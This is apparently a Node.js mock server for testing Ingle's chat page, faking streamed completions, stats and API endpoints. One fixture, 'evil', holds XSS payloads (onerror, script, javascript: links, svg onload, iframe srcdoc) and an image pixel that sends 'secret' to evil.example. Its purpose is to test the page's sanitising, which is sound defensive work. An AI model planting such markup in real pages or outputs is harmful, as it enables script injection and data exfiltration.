// A server that speaks as Ingle's does, without a model: the page is tested and developed against
// it.
//   node test/mock-server.mjs [--port N]
// What a message says decides what is answered: see `replies`.
import { readFileSync } from 'node:fs'
import { createServer } from 'node:http'
import { fileURLToPath } from 'node:url'

const DIST = fileURLToPath(new URL('../dist/', import.meta.url))
const sleep = (ms) => new Promise((resolve) => setTimeout(resolve, ms))

export const markdown = `## A small tour

Some **bold**, some *italic*, some \`code\`, a [link](https://example.org/) and <b>HTML that stays text</b>.

\`\`\`python
def fib(n: int) -> int:
    """The n-th Fibonacci number."""
    a, b = 0, 1
    for _ in range(n):
        a, b = b, a + b
    return a  # O(n)
\`\`\`

The roots of $ax^2 + bx + c$ are

$$x = \\frac{-b \\pm \\sqrt{b^2 - 4ac}}{2a}$$

| engine | tokens/s | memory |
|:--|--:|--:|
| small | 182.4 | 96 MiB |
| large | 41.7 | 1.2 GiB |

1. First things first
2. Then the rest
   - with a detail
   - and another

> It costs $5 and not $6.
`

const evil = `<img src=x onerror="window.pwned = 1"><script>window.pwned = 1</script>
[run](javascript:window.pwned=1) ![pixel](https://evil.example/?q=secret)

<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>

| <svg onload="window.pwned=1"> | b |
|--|--|
| <style>body{display:none}</style> | $\\href{javascript:window.pwned=1}{x}$ |
`

// The first whose word is in the last message answers.
const replies = [
  { word: 'tour', content: markdown },
  { word: 'evil', content: evil },
  {
    word: 'think',
    reasoning: 'The user asks me to think. **So** I do.',
    content: 'I have thought about it.',
  },
  {
    word: 'weather',
    calls: [{ name: 'get_weather', arguments: '{"city":"Oslo","unit":"celsius"}' }],
  },
  { word: 'fail', content: 'This begins well', error: 'the backend has lost its head' },
  {
    word: 'long',
    content: Array.from({ length: 400 }, (_, i) => `word${i}${i % 5 === 4 ? '\n\n' : ' '}`).join(
      '',
    ),
  },
  { word: 'slow', content: 'One step at a time.', stepMs: 120, promptMs: 3000 },
]

const tokensOf = (text) => text.match(/\s?[^\s]+|\s+/g) ?? []

function replyTo(body) {
  const last = body.messages.at(-1)
  if (last.role === 'assistant') return { content: ' And it goes on.' }
  if (last.role === 'tool') return { content: `The tool said: ${last.content}` }
  if (body.response_format?.json_schema) return { content: '{"name": "Ada"}' }
  const found = replies.find((reply) => last.content.includes(reply.word))
  return found ?? { content: `You said: ${last.content}` }
}

function timings(prompt, predicted, began) {
  const ms = Math.max(1, performance.now() - began)
  return {
    cache_n: 0,
    prompt_n: prompt,
    prompt_ms: 20,
    prompt_per_second: prompt / 0.02,
    predicted_n: predicted,
    predicted_ms: ms,
    predicted_per_second: (predicted * 1000) / ms,
  }
}

function likely(token) {
  const seed = [...token].reduce((sum, letter) => sum + letter.codePointAt(0), 0)
  const chance = [0.97, 0.8, 0.6, 0.4, 0.2, 0.05][seed % 6]
  const one = (text, probability, id) => ({
    token: text,
    logprob: Math.log(probability),
    bytes: [...Buffer.from(text)],
    id,
  })
  return {
    ...one(token, chance, seed),
    top_logprobs: [
      one(token, chance, seed),
      one(' other', (1 - chance) / 2, 11),
      one(' else', (1 - chance) / 4, 12),
    ],
  }
}

async function chat(server, body, send, gone) {
  const {
    content = '',
    reasoning = '',
    calls = [],
    error,
    stepMs = server.stepMs,
    promptMs = 0,
  } = replyTo(body)
  const prompt = tokensOf(JSON.stringify(body.messages)).length
  const base = { id: 'chatcmpl-1', object: 'chat.completion.chunk', created: 1, model: body.model }
  const chunk = (delta, more = {}) =>
    send({
      ...base,
      choices: [{ index: 0, delta, finish_reason: null, ...more.choice }],
      ...more.top,
    })
  chunk({ role: 'assistant', content: null })
  for (let done = 0; done < 3 && promptMs && body.return_progress; done++) {
    chunk(
      {},
      {
        top: {
          prompt_progress: { total: prompt, cache: 0, processed: (prompt * done) / 3, time_ms: 1 },
        },
      },
    )
    await sleep(promptMs / 3)
  }
  const began = performance.now()
  let count = 0
  const pieces = [
    ...tokensOf(reasoning).map((text) => ({ reasoning_content: text })),
    ...tokensOf(content).map((text) => ({ content: text })),
    ...calls.flatMap((call, index) => [
      {
        tool_calls: [
          {
            index,
            id: `call_${index}`,
            type: 'function',
            function: { name: call.name, arguments: '' },
          },
        ],
      },
      ...tokensOf(call.arguments).map((text) => ({
        tool_calls: [{ index, function: { arguments: text } }],
      })),
    ]),
  ]
  const hold = server.hold
  server.hold = null
  for (const piece of pieces) {
    if (count === hold?.after) await hold.released
    if (gone()) return void server.cancelled++
    count++
    const top = body.timings_per_token ? { timings: timings(prompt, count, began) } : {}
    const choice =
      body.logprobs && piece.content ? { logprobs: { content: [likely(piece.content)] } } : {}
    chunk(piece, { top, choice })
    if (stepMs) await sleep(stepMs)
  }
  if (error) return send({ error: { message: error, type: 'server_error', code: '500' } })
  const finish_reason = calls.length ? 'tool_calls' : 'stop'
  send({
    ...base,
    choices: [{ index: 0, delta: {}, finish_reason }],
    timings: timings(prompt, count, began),
  })
  if (body.stream_options?.include_usage)
    send({
      ...base,
      choices: [],
      usage: { prompt_tokens: prompt, completion_tokens: count, total_tokens: prompt + count },
    })
  send('[DONE]')
}

async function completion(server, body, send, gone) {
  const began = performance.now()
  const pieces = tokensOf(' there was a small fire that kept the whole house warm.')
  for (const [index, content] of pieces.entries()) {
    if (gone()) return
    send({
      index: 0,
      content,
      tokens: [index],
      stop: false,
      timings: timings(4, index + 1, began),
      completion_probabilities: body.n_probs ? [likely(content)] : undefined,
    })
    if (server.stepMs) await sleep(server.stepMs)
  }
  send({
    index: 0,
    content: '',
    tokens: [],
    stop: true,
    stop_type: 'eos',
    timings: timings(4, pieces.length, began),
  })
}

function stats(server) {
  const wave = (period, low, high) =>
    low + ((high - low) * (1 + Math.sin(Date.now() / 1000 / period))) / 2
  const ranks = (base) => ({
    count: 42,
    p50: base,
    p95: base * wave(7, 1.8, 2.6),
    p99: base * wave(5, 3, 4.2),
  })
  const windows = (base) => ({
    '1m': ranks(base),
    '5m': ranks(base * 1.1),
    '15m': ranks(base * 1.2),
  })
  return {
    model: server.models[0].id,
    uptime_seconds: 5025,
    tokens_per_second: { prompt: wave(6, 120, 900), generated: wave(4, 150, 190) },
    totals: {
      prompt_tokens: 81_233,
      cached_tokens: 40_112,
      generated_tokens: 128_904,
      requests: { stop: 310, cancelled: 12 },
    },
    queue: {
      running: Math.round(wave(9, 1, 5)),
      waiting: Math.round(wave(11, 0, 3)),
      waiting_max: 512,
      sequences_max: 8,
    },
    latency_seconds: {
      ttft: windows(0.085),
      inter_token: windows(0.0055),
      queue: windows(0.0021),
      e2e: windows(1.9),
    },
    kv: {
      used_tokens: Math.round(wave(20, 4000, 9000)),
      total_tokens: 16_384,
      used_bytes: 2 ** 27,
      total_bytes: 2 ** 29,
      prefix_tokens: 2048,
    },
    memory_bytes: {
      persistent: 96 * 2 ** 20,
      active: wave(20, 30, 60) * 2 ** 20,
      scratch: 12 * 2 ** 20,
      resident: 190 * 2 ** 20,
      limit: 2 ** 30,
    },
  }
}

function props(server) {
  const params = {
    seed: 4294967295,
    temperature: 0.800000011920929,
    top_k: 40,
    top_p: 0.949999988079071,
    min_p: 0.0500000007450581,
    n_predict: -1,
    repeat_penalty: 1,
    repeat_last_n: 64,
    presence_penalty: 0,
    frequency_penalty: 0,
    typical_p: 1,
    xtc_probability: 0,
    xtc_threshold: 0.1,
    dry_multiplier: 0,
    dry_base: 1.75,
    dry_allowed_length: 2,
    mirostat: 0,
  }
  return {
    default_generation_settings: { n_ctx: 4096, params },
    total_slots: 4,
    model_path: `/models/${server.models[0].id}.gguf`,
    build_info: 'ingle 0.1.0',
    modalities: { vision: false, audio: false },
  }
}

const answers = {
  'GET /v1/models': (server) => ({ object: 'list', data: server.models }),
  'GET /props': props,
  'GET /v1/stats': stats,
  'GET /slots': () => [
    {
      id: 0,
      is_processing: true,
      n_ctx: 4096,
      n_prompt_tokens: 812,
      n_prompt_tokens_processed: 812,
      next_token: [{ n_decoded: 93 }],
    },
    {
      id: 1,
      is_processing: true,
      n_ctx: 4096,
      n_prompt_tokens: 2040,
      n_prompt_tokens_processed: 512,
      next_token: [{ n_decoded: 0 }],
    },
    { id: 2, is_processing: false, n_ctx: 4096 },
    { id: 3, is_processing: false, n_ctx: 4096 },
  ],
  'GET /metrics': () => '# HELP ingle_up 1\n',
  'POST /tokenize': (_, body) => ({
    tokens: tokensOf(body.content).map((piece, id) => ({ id, piece })),
  }),
  'POST /apply-template': (_, body) => ({
    prompt: body.messages
      .map(({ role, content }) => `<|im_start|>${role}\n${content}<|im_end|>\n`)
      .join(''),
  }),
  'POST /models/load': (server, body) => setStatus(server, body.model, 'loaded'),
  'POST /models/unload': (server, body) => setStatus(server, body.model, 'unloaded'),
}
const streams = { 'POST /v1/chat/completions': chat, 'POST /completion': completion }

function setStatus(server, id, value) {
  for (const model of server.models) if (model.id === id) model.status = { value }
  return { success: true }
}

const PUBLIC = new Set(['GET /', 'GET /health', 'GET /v1/models'])

async function readBody(request) {
  const parts = []
  for await (const part of request) parts.push(part)
  return parts.length ? JSON.parse(Buffer.concat(parts).toString()) : {}
}

function sendPage(server, response) {
  response.writeHead(200, {
    'Content-Type': 'text/html; charset=utf-8',
    'Content-Security-Policy': readFileSync(`${DIST}csp.txt`, 'utf8').trim(),
    'X-Content-Type-Options': 'nosniff',
    'Referrer-Policy': 'no-referrer',
  })
  response.end(readFileSync(`${DIST}index.html`))
}

async function respond(server, request, response) {
  const route = `${request.method} ${new URL(request.url, 'http://here').pathname}`
  const json = (status, value) => {
    const text = typeof value === 'string'
    response.writeHead(status, { 'Content-Type': text ? 'text/plain' : 'application/json' })
    response.end(text ? value : JSON.stringify(value))
  }
  const fail = (status, message, type) =>
    json(status, { error: { message, type, code: String(status) } })
  if (route === 'GET /') return sendPage(server, response)
  if (server.loading) return fail(503, 'Loading model', 'unavailable_error')
  if (route === 'GET /health') return json(200, { status: 'ok' })
  if (server.key && !PUBLIC.has(route) && request.headers.authorization !== `Bearer ${server.key}`)
    return fail(401, 'Invalid API Key', 'authentication_error')
  const body = request.method === 'POST' ? await readBody(request) : {}
  server.requests.push({ route, body, headers: request.headers })
  if (streams[route]) return stream(server, streams[route], body, response)
  return answers[route]
    ? json(200, answers[route](server, body))
    : fail(404, 'Not found', 'not_found_error')
}

async function stream(server, write, body, response) {
  response.writeHead(200, { 'Content-Type': 'text/event-stream' })
  response.write(': ping\n\n')
  const send = (event) =>
    response.write(`data: ${typeof event === 'string' ? event : JSON.stringify(event)}\n\n`)
  await write(server, body, send, () => response.destroyed)
  response.end()
}

// What tests may change at any moment: key, loading, models, stepMs; and what they may read:
// requests, cancelled. holdAfter(n) stops the next answer after n pieces until the returned
// function is called.
export async function startServer({ port = 0, ...changes } = {}) {
  const server = {
    key: '',
    loading: false,
    stepMs: 4,
    requests: [],
    cancelled: 0,
    models: [{ id: 'SmolLM2-135M-Instruct.Q4_1', object: 'model' }],
    ...changes,
  }
  const http = createServer((request, response) => {
    respond(server, request, response).catch((error) => response.destroy(error))
  })
  await new Promise((resolve) => http.listen(port, '127.0.0.1', resolve))
  server.address = `http://127.0.0.1:${http.address().port}/`
  server.holdAfter = (after) => {
    let release
    const released = new Promise((resolve) => (release = resolve))
    server.hold = { after, released }
    return release
  }
  server.close = () => {
    http.closeAllConnections()
    return new Promise((resolve) => http.close(resolve))
  }
  return server
}

if (process.argv[1] === fileURLToPath(import.meta.url)) {
  const at = process.argv.indexOf('--port')
  const server = await startServer({
    port: at < 0 ? 8081 : Number(process.argv[at + 1]),
    stepMs: 20,
  })
  console.log(server.address)
}
